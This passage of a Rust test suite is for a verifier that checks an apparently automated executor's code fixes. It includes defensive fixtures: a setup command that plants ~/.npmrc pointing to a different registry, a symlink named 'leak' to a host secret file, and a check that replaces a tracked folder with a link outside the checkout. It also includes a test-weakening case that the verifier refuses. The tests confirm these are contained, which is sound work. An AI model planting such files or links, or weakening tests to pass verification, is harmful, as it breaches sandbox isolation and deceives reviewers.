    assert_eq!(
        changed,
        [(
            "test_calc.py:TestCalc.test_mul_small".to_owned(),
            Some("TestCalc.test_mul".to_owned()),
            10,
            "self.assertEqual(calc.mul(2, 3), 6)".to_owned(),
            "self.assertEqual(calc.mul(2, 2), 4)".to_owned()
        )]
    );
    let published = report.for_publication();
    assert!(
        published.failing.contains("**Changed expectations (1)**")
            && published.failing.contains(
                "- `test_calc.py:10` in `TestCalc.test_mul_small` (renamed from \
                 `TestCalc.test_mul`): `self.assertEqual(calc.mul(2, 3), 6)` (line 10 in the \
                 base) → `self.assertEqual(calc.mul(2, 2), 4)`"
            ),
        "{}",
        published.failing
    );
    assert!(published.details.contains("**Changed expectations (1)**"));

    let unnamed = contract();
    let report = world.verify(&unnamed, &plan, edit).await;
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    assert!(report.weakening.changed.is_empty());
    let found: Vec<(String, String, bool)> = report
        .weakening
        .findings
        .iter()
        .map(|f| (f.what.clone(), f.location(), f.refused()))
        .collect();
    assert_eq!(
        found,
        [(
            "renames the test `TestCalc.test_mul` to `TestCalc.test_mul_small` and changes \
             `self.assertEqual(calc.mul(2, 3), 6)` to `self.assertEqual(calc.mul(2, 2), 4)`"
                .to_owned(),
            "test_calc.py:10".to_owned(),
            true
        )]
    );
}

/// A loopback HTTP server standing in for a package registry; records each request line.
async fn registry() -> (Arc<Mutex<Vec<String>>>, u16) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let log = log.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0u8; 4096];
                while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut chunk).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
                    }
                }
                let head = String::from_utf8_lossy(&buf).into_owned();
                let line = head.lines().next().unwrap_or_default().to_owned();
                log.lock().unwrap().push(line);
                let body = "calc-deps 1.0\n";
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = stream.write_all(reply.as_bytes()).await;
            });
        }
    });
    (seen, port)
}

#[tokio::test(flavor = "multi_thread")]
async fn setup_reaches_the_allowlisted_registry_only_and_checks_have_no_network() {
    let (registry_log, port) = registry().await;
    let (other_log, other_port) = registry().await;
    let world = Project::new();
    let contract = contract();
    let extra = format!(
        "setup:\n  - curl -fsS http://127.0.0.1:{port}/simple/calc-deps -o ../home/deps.txt\n  \
         - curl -fsS http://127.0.0.1:{other_port}/elsewhere\n\
         network_allow: [\"127.0.0.1:{port}\"]\n\
         test:\n  - python3 -m unittest\n  - grep -q calc-deps ../home/deps.txt\n  \
         - curl -sS --max-time 5 http://127.0.0.1:{port}/from-a-check\n"
    );
    let config = RepoConfig::parse(&extra, ".github/planwright.yml", &RootFiles::default())
        .expect("valid settings");
    let plan = Plan::new(&contract, &config);
    assert_eq!(plan.setup.len(), 2);
    assert_eq!(plan.checks.len(), 3);
    let report = world
        .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;

    let row = |phase: Phase, start: &str| {
        report
            .commands
            .iter()
            .find(|c| c.phase == phase && c.command.starts_with(start))
            .unwrap_or_else(|| panic!("no {phase:?} command {start}"))
    };
    let fetch = row(Phase::Setup, &format!("curl -fsS http://127.0.0.1:{port}/"));
    assert_eq!(fetch.after.exit_code, Some(0), "{}", report.compact());
    assert_eq!(fetch.baseline.as_ref().unwrap().exit_code, Some(0));
    // What setup fetched is there for the checks.
    assert_eq!(
        row(Phase::Check, "grep").after.exit_code,
        Some(0),
        "{}",
        report.compact()
    );
    // Another host is refused by the proxy (curl: 403), on both trees.
    let refused = row(
        Phase::Setup,
        &format!("curl -fsS http://127.0.0.1:{other_port}/"),
    );
    assert_eq!(refused.after.exit_code, Some(22));
    assert_eq!(refused.baseline.as_ref().unwrap().exit_code, Some(22));
    assert!(other_log.lock().unwrap().is_empty());
    // Checks run without any network: the registry is out of reach.
    let check_fetch = row(Phase::Check, "curl");
    assert_ne!(check_fetch.after.exit_code, Some(0));
    let seen = registry_log.lock().unwrap().clone();
    assert_eq!(
        seen,
        vec![
            "GET /simple/calc-deps HTTP/1.1",
            "GET /simple/calc-deps HTTP/1.1"
        ],
        "one fetch per tree, nothing from the checks"
    );
    // Failures on both trees are pre-existing; the fix still counts.
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(ids(&report, Class::Fixed), vec![ADD_ID]);
    let table = report.pr_markdown();
    assert!(
        table.contains(&format!(
            "| setup: `curl -fsS http://127.0.0.1:{other_port}/elsewhere` | ❌ exit 22 · "
        )),
        "{table}"
    );
}

impl Project {
    /// The verifier with a setup cache under the project's DATA_DIR.
    fn with_setup_cache(self, config: &RepoConfig) -> Self {
        let data = self.root.path().join("data");
        self.with_setup_cache_of(config, &data, RepoScope::new("github", "1"))
    }

    /// The verifier with the setup cache under `data` (another project's DATA_DIR, when
    /// two share one), used as `scope`'s.
    fn with_setup_cache_of(mut self, config: &RepoConfig, data: &Path, scope: RepoScope) -> Self {
        let cache = SetupCache::open(data, 1 << 30).unwrap();
        self.verifier = self.verifier.clone().with_setup_cache(
            Arc::new(cache),
            scope,
            "host",
            &config.environment,
        );
        self
    }

    /// Every entry of every repository in the project's setup cache.
    fn cache_entries(&self) -> Vec<PathBuf> {
        let dir = self.root.path().join("data/setup-cache/repos");
        let mut found: Vec<PathBuf> = std::fs::read_dir(dir)
            .unwrap()
            .flat_map(|repo| std::fs::read_dir(repo.unwrap().path()).unwrap())
            .map(|e| e.unwrap().path())
            .collect();
        found.sort();
        found
    }
}

/// Setup fetches from the stand-in registry into `.venv` and configures a tool in HOME;
/// the checks need both. The cache keeps `.venv` keyed by README.md.
fn cached_setup(port: u16) -> RepoConfig {
    settings(&format!(
        "setup:\n  - mkdir -p .venv && curl -fsS http://127.0.0.1:{port}/simple/calc-deps -o .venv/deps.txt\n  \
         - echo configured > ../home/tool.cfg\n\
         network_allow: [\"127.0.0.1:{port}\"]\n\
         test:\n  - grep -q calc-deps .venv/deps.txt\n  - grep -q configured ../home/tool.cfg\n\
         environment:\n  cache: [.venv]\n  cache_key: [README.md]\n"
    ))
}

fn settings(text: &str) -> RepoConfig {
    RepoConfig::parse(text, ".github/planwright.yml", &RootFiles::default())
        .expect("valid settings")
}

fn setup_rows(report: &VerificationReport) -> Vec<&planwright::verify::CommandComparison> {
    report
        .commands
        .iter()
        .filter(|c| c.phase == Phase::Setup)
        .collect()
}

fn setup_cache_count(result: &str) -> u64 {
    let mut out = planwright::metrics::Exposition::default();
    planwright::metrics::render_process(&mut out);
    let line = format!("planwright_setup_cache_lookups_total{{result=\"{result}\"}} ");
    out.into_text()
        .lines()
        .find_map(|l| l.strip_prefix(&line))
        .expect("the setup cache counter is exposed")
        .parse()
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn setup_runs_once_over_two_verifications_on_the_same_key_files() {
    let (registry_log, port) = registry().await;
    let contract = contract();
    let config = cached_setup(port);
    let plan = Plan::new(&contract, &config);
    let world = Project::new().with_setup_cache(&config);
    let (hits, misses) = (setup_cache_count("hit"), setup_cache_count("miss"));

    let first = world
        .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;
    let second = world
        .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;

    assert_eq!(
        registry_log.lock().unwrap().len(),
        1,
        "setup ran on the first base only"
    );
    for report in [&first, &second] {
        assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
        // What the checks need came back: `.venv` into the checkout, the tool's settings
        // into HOME.
        for check in report.commands.iter().filter(|c| c.phase == Phase::Check) {
            assert!(check.after.succeeded(), "{}", report.compact());
        }
        let rows = setup_rows(report);
        assert_eq!(rows.len(), 2);
        assert!(rows.iter().all(|r| r.after.restored && r.after.succeeded()));
    }
    assert!(
        setup_rows(&first)
            .iter()
            .all(|r| !r.baseline.as_ref().unwrap().restored)
    );
    assert!(
        setup_rows(&second)
            .iter()
            .all(|r| r.baseline.as_ref().unwrap().restored)
    );
    let table = second.pr_markdown();
    assert!(
        table.contains("| ✅ restored from the setup cache · "),
        "{table}"
    );
    assert_eq!(world.cache_entries().len(), 1);
    assert!(setup_cache_count("hit") >= hits + 3);
    assert!(setup_cache_count("miss") > misses);
}

/// A project whose setup script (`sh setup.sh`, keyed by nothing else but the shared
/// lock file) writes `marker` into `.venv`, and plants `~/.npmrc` when `plant`.
fn scripted(marker: &str, plant: bool) -> Project {
    let plant = if plant {
        " && echo registry=http://127.0.0.1:9/ > ../home/.npmrc"
    } else {
        ""
    };
    let script = format!("mkdir -p .venv && echo {marker} > .venv/marker{plant}\n");
    Project::with_files(&[
        ("calc.py", CALC),
        ("test_calc.py", TESTS),
        ("requirements.txt", "requests==2.32.3\n"),
        ("setup.sh", &script),
    ])
}

/// The same settings everywhere: setup runs the repository's script, the checks want
/// the second project's marker and no planted `.npmrc`.
fn script_settings() -> RepoConfig {
    settings(
        "setup: [\"sh setup.sh\"]\n\
         test:\n  - grep -qx second .venv/marker\n  - test ! -e ../home/.npmrc\n\
         environment:\n  cache: [.venv]\n",
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn another_repositorys_setup_is_never_restored_however_alike_their_settings() {
    let contract = contract();
    let config = script_settings();
    let plan = Plan::new(&contract, &config);
    let first = scripted("first", true).with_setup_cache(&config);
    // The first repository's setup runs and is kept (its checks fail: not its marker).
    let kept = first
        .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;
    assert!(
        setup_rows(&kept)
            .iter()
            .all(|r| r.baseline.as_ref().unwrap().succeeded())
    );
    assert_eq!(first.cache_entries().len(), 1);
    let data = first.root.path().join("data");

    // The same id on the other forge, another repository of the same installation, and
    // the same repository after its setup script changed under the same lock file.
    for scope in [
        RepoScope::new("gitlab", "1"),
        RepoScope::new("github", "2"),
        RepoScope::new("github", "1"),
    ] {
        let second = scripted("second", false).with_setup_cache_of(&config, &data, scope.clone());
        let report = second
            .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
            .await;
        for row in setup_rows(&report) {
            let base = row.baseline.as_ref().unwrap();
            assert!(!base.restored, "{scope}: {}", report.compact());
            assert!(base.succeeded(), "{scope}: {}", report.compact());
        }
        // Its own setup's files, and no HOME of the first.
        let mine = |c: &&planwright::verify::CommandComparison| {
            c.command.starts_with("grep") || c.command.starts_with("test !")
        };
        for check in report.commands.iter().filter(mine) {
            assert!(check.after.succeeded(), "{scope}: {}", report.compact());
            assert!(
                check.baseline.as_ref().unwrap().succeeded(),
                "{scope}: {}",
                report.compact()
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn base_runs_from_a_restored_setup_last_only_as_long_as_its_entry() {
    let (_registry_log, port) = registry().await;
    let contract = contract();
    let config = cached_setup(port);
    let plan = Plan::new(&contract, &config);
    let world = Project::new().with_setup_cache(&config);
    let scope = RepoScope::new("github", "1");
    let cache = SetupCache::open(&world.root.path().join("data"), 1 << 30).unwrap();
    let ran = world.baseline(&plan).await;
    assert_eq!(ran.setup_entry, None, "setup ran");
    assert!(!ran.rests_on_a_gone_setup(Some(&cache), &scope));

    let restored = world.baseline(&plan).await;
    let entry = restored
        .setup_entry
        .clone()
        .expect("restored from an entry");
    assert_eq!(
        world.cache_entries()[0].file_name().unwrap(),
        entry.as_str()
    );
    // Kept, the runs say which entry they rest on.
    let json = serde_json::to_string(&restored).unwrap();
    let kept: RunSet = serde_json::from_str(&json).unwrap();
    assert!(!kept.rests_on_a_gone_setup(Some(&cache), &scope));
    assert!(kept.rests_on_a_gone_setup(Some(&cache), &RepoScope::new("gitlab", "1")));
    assert!(kept.rests_on_a_gone_setup(None, &scope));
    std::fs::remove_dir_all(world.root.path().join("data/setup-cache/repos")).unwrap();
    assert!(kept.rests_on_a_gone_setup(Some(&cache), &scope));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_changed_key_file_misses_and_a_results_setup_is_not_kept() {
    let (registry_log, port) = registry().await;
    let contract = contract();
    let config = cached_setup(port);
    let plan = Plan::new(&contract, &config);
    let world = Project::new().with_setup_cache(&config);
    world
        .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;
    assert_eq!(registry_log.lock().unwrap().len(), 1);

    // The result changed the file keying the cache: its setup runs.
    let changed = world
        .verify(&contract, &plan, |repo| {
            write(repo, "README.md", "# calc 2\n")
        })
        .await;
    let rows = setup_rows(&changed);
    assert!(
        rows.iter()
            .all(|r| !r.after.restored && r.after.succeeded())
    );
    assert!(rows.iter().all(|r| r.baseline.as_ref().unwrap().restored));
    assert_eq!(registry_log.lock().unwrap().len(), 2);

    // What ran on that result was not kept: the executor had its hands on the checkout.
    // The same change verified again runs setup again.
    let result = world.workspace().await;
    write(&result.repo(), "README.md", "# calc 2\n");
    let again = world
        .verifier
        .verify(&plan, &contract, &RunSet::default(), &result, "run-4")
        .await
        .unwrap();
    result.finish(Outcome::Succeeded).await.unwrap();
    assert!(setup_rows(&again).iter().all(|r| !r.after.restored));
    assert_eq!(registry_log.lock().unwrap().len(), 3);
    assert_eq!(world.cache_entries().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn symlinks_setup_plants_are_kept_as_links_and_never_followed() {
    let world = Project::new();
    let outside = world.root.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let secret = world.root.path().join("secret.txt");
    std::fs::write(&secret, "host secret\n").unwrap();
    let contract = contract();
    let config = settings(&format!(
        "setup:\n  - mkdir -p .venv && ln -s {secret} .venv/leak && ln -s {outside} .venv/out && ln -s {outside} ../home/out\n\
         test:\n  - test -L .venv/leak\n\
         environment:\n  cache: [.venv]\n  cache_key: [README.md]\n",
        secret = support::sh_word(&secret),
        outside = support::sh_word(&outside),
    ));
    let plan = Plan::new(&contract, &config);
    let world = world.with_setup_cache(&config);
    // The executor plants a link where the cache restores: into the host folder. (Not
    // `Project::verify`: the commands name host paths, which it checks reports never do.)
    let baseline = world.baseline(&plan).await;
    let result = world.workspace().await;
    std::os::unix::fs::symlink(&outside, result.repo().join(".venv")).unwrap();
    let report = world
        .verifier
        .verify(&plan, &contract, &baseline, &result, "run-5")
        .await
        .unwrap();
    result.finish(Outcome::Succeeded).await.unwrap();
    assert!(
        setup_rows(&report)[0].after.restored,
        "{}",
        report.compact()
    );

    let entry = &world.cache_entries()[0];
    for link in ["repo/.venv/leak", "repo/.venv/out", "home/out"] {
        let meta = std::fs::symlink_metadata(entry.join(link)).unwrap();
        assert!(meta.file_type().is_symlink(), "{link} is kept as a link");
    }
    assert_eq!(
        std::fs::read_link(entry.join("repo/.venv/leak")).unwrap(),
        secret
    );
    // Nothing of the host came into the cache, and nothing was written through a link.
    let mut stack = vec![entry.clone()];
    while let Some(dir) = stack.pop() {
        for item in std::fs::read_dir(&dir).unwrap() {
            let path = item.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                stack.push(path);
            } else if meta.is_file() {
                let text = std::fs::read(&path).unwrap();
                assert!(!String::from_utf8_lossy(&text).contains("host secret"));
            }
        }
    }
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "host secret\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failed_setup_is_not_kept() {
    let contract = contract();
    let config = settings(
        "setup:\n  - mkdir -p .venv && echo half > .venv/a\n  - exit 3\n\
         environment:\n  cache: [.venv]\n  cache_key: [README.md]\n",
    );
    let plan = Plan::new(&contract, &config);
    let world = Project::new().with_setup_cache(&config);
    for _ in 0..2 {
        let runs = world.baseline(&plan).await;
        let setup: Vec<_> = runs
            .runs
            .iter()
            .filter(|r| r.phase == Phase::Setup)
            .collect();
        assert_eq!(setup.len(), 2);
        assert!(setup.iter().all(|r| !r.summary.restored));
        assert_eq!(setup[1].summary.exit_code, Some(3));
    }
    assert!(world.cache_entries().is_empty());
}

/// Two services and a root: a service's check passes once its `lib.txt` says `good`.
const MONOREPO: &[(&str, &str)] = &[
    ("api/lib.txt", "bad\n"),
    ("api/check.sh", "grep -q good api/lib.txt\n"),
    ("web/lib.txt", "bad\n"),
    ("web/check.sh", "grep -q good web/lib.txt\n"),
    ("check-all.sh", "echo all good\n"),
];

/// Each service's command for changes under it, and the catch-all for every change.
fn monorepo_settings() -> RepoConfig {
    settings(
        "test:\n  \"api/**\": [\"sh api/check.sh\"]\n  \"web/**\": [\"sh web/check.sh\"]\n  \"**\": [\"sh check-all.sh\"]\n",
    )
}

/// A contract that changes the API's `lib.txt` and checks that it is still there.
fn api_contract() -> Contract {
    Contract::from_json(
        r#"{
          "summary": "the API is bad",
          "diagnosis": {"hypothesis": "api/lib.txt says bad"},
          "change": {
            "goal": "the API is good",
            "files": [{"path": "api/lib.txt", "action": "modify", "why": "say good"}]
          },
          "verification": {"commands": ["test -f api/lib.txt"], "new_tests": []},
          "routing": {"risk": "low"}
        }"#,
    )
    .expect("a valid contract")
}

fn commands(report: &VerificationReport) -> Vec<&str> {
    report.commands.iter().map(|c| c.command.as_str()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_diff_in_one_folder_runs_that_folders_commands_and_the_catch_all() {
    let world = Project::with_files(MONOREPO);
    let contract = api_contract();
    let plan = Plan::new(&contract, &monorepo_settings());
    assert_eq!(
        plan.checks,
        ["test -f api/lib.txt", "sh api/check.sh", "sh check-all.sh"]
    );
    let baseline = world.baseline(&plan).await;
    let result = world.workspace().await;
    write(&result.repo(), "api/lib.txt", "good\n");
    let for_result = plan.for_result(&result.changed_files().await.unwrap());
    assert!(for_result.missing_from(&baseline).is_empty());
    let report = world
        .verifier
        .verify(&for_result, &contract, &baseline, &result, "run-3")
        .await
        .expect("verification runs");
    result.finish(Outcome::Succeeded).await.unwrap();
    // The web's command never ran: nothing under `web/` changed.
    assert_eq!(
        commands(&report),
        ["test -f api/lib.txt", "sh api/check.sh", "sh check-all.sh"]
    );
    assert_eq!(ids(&report, Class::Fixed), ["<sh api/check.sh>"]);
    assert_eq!(report.verdict, Verdict::Passed);
    let published = report.for_publication();
    assert_eq!(
        published.chosen,
        "Chosen by the paths the result changed: `api/**` chose `sh api/check.sh`; `**` chose `sh check-all.sh`."
    );
    // The stored form carries the globs back.
    let back: VerificationReport =
        serde_json::from_str(&serde_json::to_string(&report).unwrap()).unwrap();
    assert_eq!(back, report);
}

#[tokio::test(flavor = "multi_thread")]
async fn commands_a_diff_chose_beyond_the_contract_run_on_the_base_before_comparing() {
    let world = Project::with_files(MONOREPO);
    let contract = api_contract();
    let plan = Plan::new(&contract, &monorepo_settings());
    // The base's checkout is gone once its runs are in, as when a kept baseline stood for
    // running it.
    let mut baseline = world.baseline(&plan).await;
    let result = world.workspace().await;
    write(&result.repo(), "api/lib.txt", "good\n");
    write(&result.repo(), "web/lib.txt", "still bad\n");
    let for_result = plan.for_result(&result.changed_files().await.unwrap());
    assert_eq!(for_result.missing_from(&baseline), ["sh web/check.sh"]);
    // Compared with nothing, the web's failure would be the result's.
    let unfair = world
        .verifier
        .verify(&for_result, &contract, &baseline, &result, "run-3")
        .await
        .unwrap();
    assert_eq!(ids(&unfair, Class::Introduced), ["<sh web/check.sh>"]);

    let base = world.workspace().await;
    world
        .verifier
        .complete_baseline(&for_result, &mut baseline, &base, false, "run-3")
        .await
        .expect("the base runs what it lacked");
    base.finish(Outcome::Succeeded).await.unwrap();
    let ran: Vec<&str> = baseline.runs.iter().map(|r| r.command.as_str()).collect();
    assert_eq!(
        ran,
        [
            "test -f api/lib.txt",
            "sh api/check.sh",
            "sh check-all.sh",
            "sh web/check.sh"
        ]
    );
    assert!(for_result.missing_from(&baseline).is_empty());
    let report = world
        .verifier
        .verify(&for_result, &contract, &baseline, &result, "run-3")
        .await
        .unwrap();
    result.finish(Outcome::Succeeded).await.unwrap();
    assert_eq!(
        commands(&report),
        [
            "test -f api/lib.txt",
            "sh api/check.sh",
            "sh web/check.sh",
            "sh check-all.sh"
        ]
    );
    assert_eq!(ids(&report, Class::PreExisting), ["<sh web/check.sh>"]);
    assert!(ids(&report, Class::Introduced).is_empty());
    assert_eq!(ids(&report, Class::Fixed), ["<sh api/check.sh>"]);
    let globs: Vec<&str> = report.chosen.iter().map(|c| c.glob.as_str()).collect();
    assert_eq!(globs, ["api/**", "web/**", "**"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_checks_rewrote_is_put_back_and_a_link_they_left_is_not_followed() {
    let world = Project::with_files(&[
        ("calc.py", CALC),
        ("test_calc.py", TESTS),
        ("docs/guide.md", "# guide\n"),
        ("notes.txt", "old notes\n"),
    ]);
    let outside = world.root.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o777)).unwrap();
    let contract = contract();
    // A formatter that rewrites the result's file, deletes another, makes again one the
    // result deleted, leaves a log, and turns a tracked folder into a link to a folder
    // outside the checkout.
    let formatter = format!(
        "echo '# formatted' >> calc.py; rm test_calc.py; echo again > notes.txt; \
         echo log > format.log; rm -r docs && ln -s {} docs",
        support::sh_word(&outside)
    );
    let config = settings(&format!("test: [{formatter:?}]\n"));
    let plan = Plan::new(&contract, &config);
    let baseline = RunSet::default();
    let result = world.workspace().await;
    write(&result.repo(), "calc.py", CALC_FIXED);
    std::fs::remove_file(result.repo().join("notes.txt")).unwrap();
    let author = planwright::git::Author {
        name: "planwright".into(),
        email: "planwright@example.com".into(),
    };
    let none = planwright::git::Artifacts::default();
    result
        .commit_result("fix add", &author, &none)
        .await
        .unwrap();
    world
        .verifier
        .verify(&plan, &contract, &baseline, &result, "run-3")
        .await
        .unwrap();
    let repo = result.repo();
    assert!(
        std::fs::read_to_string(repo.join("calc.py"))
            .unwrap()
            .ends_with("# formatted\n"),
        "the check ran"
    );
    let created = result.undo_checks_writes().await.unwrap();
    assert_eq!(
        std::fs::read_to_string(repo.join("calc.py")).unwrap(),
        CALC_FIXED
    );
    assert_eq!(
        std::fs::read_to_string(repo.join("test_calc.py")).unwrap(),
        TESTS
    );
    assert!(
        !repo.join("notes.txt").exists(),
        "the result's deletion stands"
    );
    let docs = std::fs::symlink_metadata(repo.join("docs")).unwrap();
    assert!(docs.is_dir() && !docs.file_type().is_symlink());
    assert_eq!(
        std::fs::read_to_string(repo.join("docs/guide.md")).unwrap(),
        "# guide\n"
    );
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        0,
        "nothing written outside"
    );
    // What the checks created stays, and stays out of the result while unchanged.
    // The formatter left its log (sandboxed Python writes no bytecode).
    assert_eq!(created.len(), 1, "{created:?}");
    assert!(repo.join("format.log").exists());
    let again = result
        .commit_result("fix add", &author, &created)
        .await
        .unwrap();
    let tree = git(
        &result.git_dir(),
        &["ls-tree", "-r", "--name-only", again.as_str()],
    );
    assert!(!tree.contains("format.log"), "{tree}");
    // An executor that writes to it makes it its own.
    write(&repo, "format.log", "kept on purpose\n");
    let mine = result
        .commit_result("fix add", &author, &created)
        .await
        .unwrap();
    let tree = git(
        &result.git_dir(),
        &["ls-tree", "-r", "--name-only", mine.as_str()],
    );
    assert!(tree.contains("format.log"), "{tree}");
    result.finish(Outcome::Succeeded).await.unwrap();
}

impl Project {
    /// [`Project::verify`] with the fail-to-pass proof: the result's test files also run on
    /// a fresh checkout of the base.
    async fn verify_proving(
        &self,
        contract: &Contract,
        plan: &Plan,
        edit: impl FnOnce(&Path),
    ) -> VerificationReport {
        let result = self.workspace().await;
        let proof = self.workspace().await;
        let (baseline, ()) = tokio::join!(self.baseline(plan), async { edit(&result.repo()) });
        let report = self
            .verifier
            .verify_proving(plan, contract, &baseline, &result, Some(&proof), "run-3")
            .await
            .expect("verification runs");
        // The proof ran on the base code: the result's fix is not in its checkout.
        assert_eq!(
            std::fs::read_to_string(proof.repo().join("calc.py")).unwrap(),
            CALC
        );
        for ws in [result, proof] {
            ws.finish(Outcome::Succeeded).await.unwrap();
        }
        let json = serde_json::to_string(&report).unwrap();
        let back: VerificationReport = serde_json::from_str(&json).unwrap();
        assert_eq!(back, report);
        report
    }
}

fn contract_with_new_tests(new_tests: &[&str]) -> Contract {
    let mut contract = contract();
    contract.verification.new_tests = new_tests.iter().map(|t| (*t).to_owned()).collect();
    contract
}

/// The calc tests with one more test method.
fn tests_with(method: &str) -> String {
    TESTS.replace("\n\nif __name__", &format!("\n{method}\n\nif __name__"))
}

fn proofs(report: &VerificationReport) -> Vec<(String, Proof, bool)> {
    report
        .proof
        .tests
        .iter()
        .map(|t| (t.test.clone(), t.proof, t.in_contract))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_regression_test_that_fails_on_the_base_code_proves_the_fix() {
    let world = Project::new();
    let contract = contract_with_new_tests(&["test_calc.py::TestCalc::test_add_negative"]);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify_proving(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(
                repo,
                "test_calc.py",
                &tests_with(
                    "    def test_add_negative(self):\n        self.assertEqual(calc.add(-2, -3), -5)\n",
                ),
            );
        })
        .await;
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(
        proofs(&report),
        vec![
            (
                "test_calc.TestCalc.test_add_negative".to_owned(),
                Proof::Proven,
                true
            ),
            (ADD_ID.to_owned(), Proof::Proven, false),
        ]
    );
    assert!(report.proof.ran_on_base);
    let table = report.pr_markdown();
    assert!(
        table.contains(
            "| `test_calc.TestCalc.test_add_negative` (contract) | failed | passed | ✅ proves the change |"
        ),
        "{table}"
    );
    let published = report.for_publication();
    assert!(published.proof.contains("**Proof**"), "{}", published.proof);
    assert!(
        report.compact().contains(
            "- test_calc.TestCalc.test_add_negative (contract) [python3 -m unittest]: base code failed; after passed: proves the change"
        ),
        "{}",
        report.compact()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_regression_test_that_passes_on_the_base_code_gets_no_green_check() {
    let world = Project::new();
    let contract = contract_with_new_tests(&["test_mul_zero"]);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify_proving(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(
                repo,
                "test_calc.py",
                &tests_with(
                    "    def test_mul_zero(self):\n        self.assertEqual(calc.mul(0, 3), 0)\n",
                ),
            );
        })
        .await;
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    assert!(ids(&report, Class::Introduced).is_empty());
    let nothing: Vec<_> = proofs(&report)
        .into_iter()
        .filter(|(_, p, _)| *p == Proof::ProvesNothing)
        .collect();
    assert_eq!(
        nothing,
        vec![("test_mul_zero".to_owned(), Proof::ProvesNothing, true)]
    );
    assert_eq!(
        report.headline(),
        "Verification failed: 1 fixed, the contract's new tests do not fail on the base code"
    );
    assert!(
        report
            .pr_markdown()
            .contains("| `test_mul_zero` (contract) | did not fail | passed | ⚠️ proves nothing: it does not fail on the base code |"),
        "{}",
        report.pr_markdown()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn without_test_changes_the_baseline_stands_for_the_base_code() {
    let world = Project::new();
    // The contract names the existing failing test: the baseline shows it failing.
    let contract = contract_with_new_tests(&[ADD_ID]);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify_proving(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(
        proofs(&report),
        vec![(ADD_ID.to_owned(), Proof::Proven, true)]
    );
    assert!(!report.proof.ran_on_base);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_test_that_checks_only_a_data_file_the_result_adds_proves_nothing() {
    let world = Project::new();
    let contract = contract_with_new_tests(&["test_data.TestData.test_expected"]);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify_proving(&contract, &plan, |repo| {
            // calc.py stays broken; the "regression test" reads a file the result adds.
            write(repo, "data/expected.txt", "5\n");
            write(
                repo,
                "test_data.py",
                "import unittest\n\n\nclass TestData(unittest.TestCase):\n    \
                 def test_expected(self):\n        with open(\"data/expected.txt\") as f:\n            \
                 self.assertEqual(f.read().strip(), \"5\")\n",
            );
        })
        .await;
    // On the base code without the data file the test would fail and seem to prove the
    // change; with it, it passes there too.
    assert_eq!(
        proofs(&report),
        vec![(
            "test_data.TestData.test_expected".to_owned(),
            Proof::ProvesNothing,
            true
        )],
        "{}",
        report.pr_markdown()
    );
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    assert!(
        report.proof.notes.iter().any(|n| n.contains(
            "files the result changed that its tests may read and the contract does not \
             name: `data/expected.txt`"
        )),
        "{:?}",
        report.proof.notes
    );
}

/// pytest run so that it counts failures without naming them (`-rN --tb=no`: no short
/// summary, no FAILURES section), as when a test closes pytest's captured output.
const PYTEST_UNNAMED: &str = "python3 -m pytest -p no:cacheprovider -rN --tb=no";

const PYTEST_CALC_TESTS: &str = "import calc


def test_add():
    assert calc.add(2, 3) == 5


def test_mul():
    assert calc.mul(2, 3) == 6
";

#[tokio::test(flavor = "multi_thread")]
async fn a_base_run_that_does_not_name_its_failures_leaves_the_new_test_unknown() {
    let world = Project::with_files(&[("calc.py", CALC), ("test_calc.py", PYTEST_CALC_TESTS)]);
    let contract = Contract::from_json(&format!(
        r#"{{
          "summary": "add subtracts instead of adding",
          "diagnosis": {{"hypothesis": "calc.add uses `-`"}},
